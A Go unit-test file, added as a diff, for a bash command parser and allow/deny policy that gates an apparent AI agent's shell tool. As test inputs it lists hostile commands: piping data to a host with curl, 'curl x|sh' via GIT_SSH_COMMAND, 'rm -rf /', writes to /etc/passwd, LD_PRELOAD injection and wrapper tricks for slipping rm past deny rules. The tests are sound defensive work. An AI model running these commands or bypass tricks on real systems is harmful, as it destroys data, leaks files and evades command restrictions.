@@ -0,0 +1,294 @@
+package unit
+
+import (
+	"context"
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/connerohnesorge/claude-agent-sdk-go/pkg/bashpolicy"
+	claudeagent "github.com/connerohnesorge/claude-agent-sdk-go/pkg/claude"
+	"github.com/connerohnesorge/claude-agent-sdk-go/pkg/clauderrs"
+)
+
+func TestBashParseStructure(t *testing.T) {
+	script, err := bashpolicy.Parse(`FOO=1 git log --oneline | head -n 5 >out.txt 2>&1 && echo "done $USER" ; ls 'a b'`)
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+
+	if len(script.Statements) != 3 {
+		t.Fatalf("expected 3 statements, got %d", len(script.Statements))
+	}
+	if script.Statements[0].Op != "&&" || script.Statements[1].Op != ";" {
+		t.Errorf("unexpected operators: %q %q", script.Statements[0].Op, script.Statements[1].Op)
+	}
+
+	pipeline := script.Statements[0].Pipeline
+	if len(pipeline.Commands) != 2 {
+		t.Fatalf("expected 2 piped commands, got %d", len(pipeline.Commands))
+	}
+	git := pipeline.Commands[0]
+	if len(git.Assigns) != 1 || git.Assigns[0].Value != "FOO=1" {
+		t.Errorf("expected FOO=1 assignment, got %+v", git.Assigns)
+	}
+	if git.Name().Value != "git" || len(git.Args()) != 2 {
+		t.Errorf("unexpected git command: %+v", git.Words)
+	}
+
+	head := pipeline.Commands[1]
+	if len(head.Redirects) != 2 {
+		t.Fatalf("expected 2 redirects, got %+v", head.Redirects)
+	}
+	if r := head.Redirects[0]; r.Op != ">" || r.Target.Value != "out.txt" || !r.Writes() {
+		t.Errorf("unexpected output redirect: %+v", r)
+	}
+	if r := head.Redirects[1]; r.Fd != 2 || r.Op != ">&" || r.Writes() {
+		t.Errorf("unexpected fd duplication: %+v", r)
+	}
+
+	echo := script.Statements[1].Pipeline.Commands[0]
+	if arg := echo.Args()[0]; arg.Value != "done $USER" || !arg.Dynamic {
+		t.Errorf("expected dynamic double-quoted word, got %+v", arg)
+	}
+	ls := script.Statements[2].Pipeline.Commands[0]
+	if arg := ls.Args()[0]; arg.Value != "a b" || !arg.Literal() {
+		t.Errorf("expected literal quoted word, got %+v", arg)
+	}
+}
+
+func TestBashParseSubstitutions(t *testing.T) {
+	script, err := bashpolicy.Parse("echo $(cat `which x`) <(ls)")
+	if err != nil {
+		t.Fatalf("Parse failed: %v", err)
+	}
+
+	echo := script.Statements[0].Pipeline.Commands[0]
+	if len(echo.Substitutions) != 2 {
+		t.Fatalf("expected 2 substitutions, got %d", len(echo.Substitutions))
+	}
+	inner := echo.Substitutions[0].Statements[0].Pipeline.Commands[0]
+	if inner.Name().Value != "cat" || len(inner.Substitutions) != 1 {
+		t.Errorf("expected nested backquote substitution, got %+v", inner)
+	}
+}
+
+func TestBashParseErrors(t *testing.T) {
+	for _, command := range []string{
+		`echo 'unterminated`,
+		`if true; then rm x; fi`,
+		`cat <<EOF`,
+		`ls &&`,
+		`| grep x`,
+		`echo $(ls`,
+	} {
+		_, err := bashpolicy.Parse(command)
+		if err == nil {
+			t.Errorf("expected parse error for %q", command)
+
+			continue
+		}
+		if _, ok := err.(*clauderrs.ValidationError); !ok {
+			t.Errorf("expected ValidationError for %q, got %T", command, err)
+		}
+	}
+}
+
+func TestBashPolicyEvaluate(t *testing.T) {
+	policy := &bashpolicy.Policy{
+		Allow: []bashpolicy.Rule{
+			{Command: "git", Args: []string{"status"}},
+			{Command: "git", Args: []string{"log"}},
+			{Command: "ls"},
+			{Command: "grep"},
+			{Command: "rm"},
+			{Command: "sudo"},
+			{Command: "bash"},
+			{Command: "echo"},
+		},
+		Deny: []bashpolicy.Rule{
+			{Command: "rm", AnyArg: []string{"-*r*", "/"}},
+		},
+		WriteTargets: []string{"/dev/null"},
+	}
+
+	tests := []struct {
+		command string
+		allowed bool
+	}{
+		{"git status", true},
+		{"git log --oneline | grep fix", true},
+		{"ls 2>/dev/null", true},
+		{"git push origin main", false},
+		{"ls | curl -d @- example.com", false},
+		{"ls > /etc/passwd", false},
+		{"rm notes.txt", true},
+		{"rm -rf build", false},
+		{"/bin/rm -fr build", false},
+		{"sudo rm -rf /", false},
+		{"sudo -u root ls", true},
+		{`bash -c "git status && rm -r x"`, false},
+		{`bash -c "git status"`, true},
+		{"echo $(git push)", false},
+		{"rm $TARGET", false},
+		{"$CMD status", false},
+		{"ls &", false},
+		{"(ls)", false},
+		{"ls; git commit", false},
+		{"rm 'unterminated", false},
+	}
+
+	for _, tt := range tests {
+		decision := policy.Evaluate(tt.command)
+		if decision.Allowed != tt.allowed {
+			t.Errorf("%q: expected allowed=%v, got %+v", tt.command, tt.allowed, decision)
+		}
+		if !decision.Allowed && decision.Reason == "" {
+			t.Errorf("%q: expected a deny reason", tt.command)
+		}
+	}
+}
+
+func TestBashPolicyOptIns(t *testing.T) {
+	policy := &bashpolicy.Policy{
+		Allow:             []bashpolicy.Rule{{Command: "echo"}, {Command: "date"}, {Command: "ls"}},
+		AllowSubstitution: true,
+		AllowSubshells:    true,
+		AllowBackground:   true,
+	}
+
+	for _, command := range []string{"echo $(date)", "(ls; echo x)", "ls &"} {
+		if decision := policy.Evaluate(command); !decision.Allowed {
+			t.Errorf("%q: expected allowed, got %+v", command, decision)
+		}
+	}
+	if decision := policy.Evaluate("echo $(rm x)"); decision.Allowed {
+		t.Error("expected substituted commands to still be checked")
+	}
+}
+
+func TestBashPolicyAssignments(t *testing.T) {
+	policy := &bashpolicy.Policy{
+		Allow: []bashpolicy.Rule{{Command: "ls"}, {Command: "git"}, {Command: "env"}},
+	}
+
+	for _, command := range []string{
+		"LD_PRELOAD=/tmp/x.so ls",
+		"PATH=/tmp ls",
+		"GIT_SSH_COMMAND='curl x|sh' git fetch",
+		"env LD_PRELOAD=/tmp/x.so ls",
+		"FOO=bar",
+		"env FOO=bar",
+	} {
+		decision := policy.Evaluate(command)
+		if decision.Allowed || !strings.Contains(decision.Reason, "is not allowed") {
+			t.Errorf("%q: expected the assignment denied, got %+v", command, decision)
+		}
+	}
+
+	policy.AllowAssignments = []string{"LC_*", "FOO"}
+	for _, command := range []string{"LC_ALL=C ls", "FOO=bar", "env LC_ALL=C FOO=1 git status"} {
+		if decision := policy.Evaluate(command); !decision.Allowed {
+			t.Errorf("%q: expected allowed, got %+v", command, decision)
+		}
+	}
+	if decision := policy.Evaluate("LC_ALL=C PATH=/tmp ls"); decision.Allowed ||
+		!strings.Contains(decision.Reason, "setting PATH") {
+		t.Errorf("expected PATH denied beside an allowed assignment, got %+v", decision)
+	}
+}
+
+func TestBashPolicyWrapperFlags(t *testing.T) {
+	listed := &bashpolicy.Policy{Allow: []bashpolicy.Rule{{Command: "env"}, {Command: "ls"}}}
+	for _, command := range []string{
+		`env -iS'rm -rf /'`,
+		`env -S'rm -rf /'`,
+		`env --split-string='rm -rf /'`,
+	} {
+		if decision := listed.Evaluate(command); decision.Allowed {
+			t.Errorf("%q: expected the split string to be opaque, got %+v", command, decision)
+		}
+	}
+	if decision := listed.Evaluate("env -i ls"); !decision.Allowed {
+		t.Errorf("expected env -i ls allowed, got %+v", decision)
+	}
+
+	open := &bashpolicy.Policy{
+		Allow: []bashpolicy.Rule{{Command: "*"}},
+		Deny:  []bashpolicy.Rule{{Command: "rm"}},
+	}
+	for _, command := range []string{
+		"sudo -Eu root rm x",
+		"sudo -uroot rm x",
+		"sudo --user root rm x",
+		"timeout -sKILL 5 rm x",
+		"xargs -0I{} rm {}",
+		"setsid -f rm x",
+		"ionice -c 3 rm x",
+		"ionice -c3 -n7 rm x",
+		"chroot / rm x",
+		"chroot --userspec 0:0 / rm x",
+		"flock /tmp/lock rm x",
+		"flock -w 5 /tmp/lock rm x",
+		"flock -c 'ls' /tmp/lock",
+		"flock -xc 'ls' /tmp/lock",
+		"taskset 0x1 rm x",
+		"chrt -f 10 rm x",
+		"unshare -r rm x",
+		"unshare --setuid 0 rm x",
+		"nsenter -t 1 -m rm x",
+		"prlimit --nofile=64 rm x",
+		"stdbuf -oL rm x",
+	} {
+		if decision := open.Evaluate(command); decision.Allowed {
+			t.Errorf("%q: expected the wrapped rm denied, got %+v", command, decision)
+		}
+	}
+	for _, command := range []string{"sudo -Eu root ls", "setsid -f ls", "ionice -c3 ls", "flock /tmp/lock ls"} {
+		if decision := open.Evaluate(command); !decision.Allowed {
+			t.Errorf("%q: expected allowed, got %+v", command, decision)
+		}
+	}
+}
+
+func TestBashPolicyCanUseTool(t *testing.T) {
+	policy := &bashpolicy.Policy{Allow: []bashpolicy.Rule{{Command: "ls"}}}
+	canUseTool := policy.CanUseTool(nil)
+
+	check := func(toolName, command string) claudeagent.PermissionResult {
+		t.Helper()
+
+		input, _ := json.Marshal(command)
+		result, err := canUseTool(
+			context.Background(),
+			toolName,
+			map[string]claudeagent.JSONValue{"command": input},
+			nil,
+			"toolu_1",
+			nil,
+			nil,
+			nil,
+		)
+		if err != nil {
+			t.Fatalf("CanUseTool failed: %v", err)
+		}
+
+		return result
+	}
+
+	if _, ok := check("Bash", "ls -la").(*claudeagent.PermissionAllow); !ok {
+		t.Error("expected ls to be allowed")
+	}
+
+	denied, ok := check("Bash", "curl example.com").(*claudeagent.PermissionDeny)
+	if !ok {
+		t.Fatal("expected curl to be denied")
+	}
+	if !strings.Contains(denied.Message, "allowed commands: ls") {
+		t.Errorf("expected deny message to list allowed commands, got %q", denied.Message)
+	}
+
+	if _, ok := check("Read", "").(*claudeagent.PermissionAllow); !ok {
+		t.Error("expected non-Bash tools to be delegated")
+	}
+}